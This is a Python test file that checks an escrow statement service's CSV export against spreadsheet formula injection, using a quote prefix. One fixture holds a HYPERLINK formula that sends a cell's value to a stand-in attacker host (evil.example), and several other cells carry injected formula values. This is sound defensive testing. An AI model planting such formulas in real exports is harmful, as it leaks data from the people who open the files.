"""CSV exports never carry a spreadsheet formula: a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written with a leading quote (issue 12)."""

from __future__ import annotations

import csv
import io

import pytest

from chainaudit.service.statements import CSV_COLUMNS, Statement, StatementLine, csv_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"refund")'


def line(**change: object) -> StatementLine:
    fields: dict[str, object] = {
        "timestamp": "2026-11-21T09:30:00Z",
        "kind": "release",
        "direction": "in",
        "amount": 1_000,
        "token": "0x4444444444444444444444444444444444444444",
        "deal_id": 7,
        "milestone": 0,
        "counterparty": None,
        "record_id": "escrow:1:ab:0:cd",
        "leaf_index": 3,
        "tx_hash": "0x" + "ab" * 32,
        "block_number": 9,
        "proof_status": "pending",
        "checkpoint_seq": None,
        "anchor_tree_size": None,
        "anchor_tx_hash": None,
    }
    fields.update(change)
    return StatementLine(**fields)  # type: ignore[arg-type]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_prefix_is_neutralised(first: str) -> None:
    assert csv_cell(first + "1+1") == "'" + first + "1+1"


def test_plain_cells_are_kept() -> None:
    assert [csv_cell(v) for v in (None, 12, "release", "0xab", "a=b")] == [
        "",
        "12",
        "release",
        "0xab",
        "a=b",
    ]


def test_a_hyperlink_formula_in_a_statement_is_written_as_text() -> None:
    statement = Statement(party="0x1", generated_at="2026-11-21T09:30:00Z", tree_size=4)
    statement.lines.append(line(counterparty=HYPERLINK, kind="@SUM(A1:A9)", token="-2+3"))
    rows = list(csv.reader(io.StringIO(statement.to_csv())))
    assert rows[0] == list(CSV_COLUMNS)
    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert row["counterparty"] == "'" + HYPERLINK
    assert (row["kind"], row["token"]) == ("'@SUM(A1:A9)", "'-2+3")
    assert row["amount"] == "1000" and row["checkpoint_seq"] == ""
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
